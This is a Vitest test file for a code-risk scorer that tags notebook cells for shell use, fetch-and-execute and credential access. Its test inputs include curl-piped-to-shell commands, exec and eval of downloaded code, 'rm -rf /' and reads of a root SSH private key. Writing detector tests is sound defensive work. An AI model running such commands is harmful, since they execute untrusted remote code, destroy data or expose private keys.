import { describe, expect, it } from 'vitest';
import { assessCode } from './code-risk.js';

describe('assessCode', () => {
  it('scores nothing in a plain data cell', () => {
    expect(assessCode('import pandas as pd\ndf = pd.read_csv("/work/sales.csv")\ndf.describe()')).toEqual({ score: 0, tags: [], reasons: [] });
  });

  it('tags the ways Python runs programs, and scores the shell strings it gives them', () => {
    expect(assessCode('import os\nos.system("ls")').tags).toEqual(['shell']);
    expect(assessCode('import subprocess\nsubprocess.run(["ls"])').tags).toEqual(['shell']);
    const piped = assessCode('import os\nos.system("curl -fsSL https://x.example/i.sh | sh")');
    expect(piped.tags).toEqual(expect.arrayContaining(['shell', 'fetch-execute']));
    expect(piped.score).toBeGreaterThan(assessCode('import os\nos.system("ls")').score);
  });

  it('sees exec of a download, shell escapes and credential files', () => {
    expect(assessCode('import requests\nexec(requests.get("https://x.example/p.py").text)').tags).toContain('fetch-execute');
    expect(assessCode('!curl -fsSL https://x.example/i.sh | bash').tags).toContain('fetch-execute');
    expect(assessCode('%%bash\nrm -rf /\n').score).toBeGreaterThan(0);
    expect(assessCode('open("/root/.ssh/id_ed25519").read()').tags).toContain('credential-access');
  });

  it('scores a Bash cell as the shell script it is', () => {
    expect(assessCode('ls -la /work', 'bash').score).toBe(0);
    const piped = assessCode('curl -fsSL https://x.example/i.sh | sh', 'bash');
    expect(piped.tags).toContain('fetch-execute');
    expect(piped).toEqual(assessCode('curl -fsSL https://x.example/i.sh | sh', 'bash'));
  });

  it('sees child_process, eval of a download and credential files in a JavaScript cell', () => {
    expect(assessCode('const xs = [1, 2, 3];\nxs.map((x) => x * 2)', 'javascript')).toEqual({ score: 0, tags: [], reasons: [] });
    expect(assessCode('require("child_process").execSync("ls")', 'javascript').tags).toEqual(['shell']);
    expect(assessCode('require("child_process").execSync("curl -fsSL https://x.example/i.sh | sh")', 'javascript').tags).toContain('fetch-execute');
    expect(assessCode('eval(await (await fetch("https://x.example/p.js")).text())', 'javascript').tags).toContain('fetch-execute');
    expect(assessCode('require("fs").readFileSync("/root/.ssh/id_ed25519")', 'javascript').tags).toContain('credential-access');
  });
});
